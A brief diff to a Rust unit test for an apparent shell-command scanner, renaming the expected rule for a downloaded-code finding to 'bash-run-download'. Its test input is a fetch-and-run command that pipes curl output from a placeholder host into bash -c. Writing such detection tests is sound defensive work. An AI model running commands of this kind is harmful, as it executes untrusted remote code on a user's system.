@@ -63,7 +63,10 @@ fn the_same_place_is_told_of_once() {
     let found = findings("bash -c \"$(curl http://x)\"\n");
     let rules: Vec<_> = found.iter().map(|finding| finding.rule).collect();
     assert_eq!(
-        rules.iter().filter(|rule| **rule == "bash-network").count(),
+        rules
+            .iter()
+            .filter(|rule| **rule == "bash-run-download")
+            .count(),
         1,
         "{rules:?}"
     );
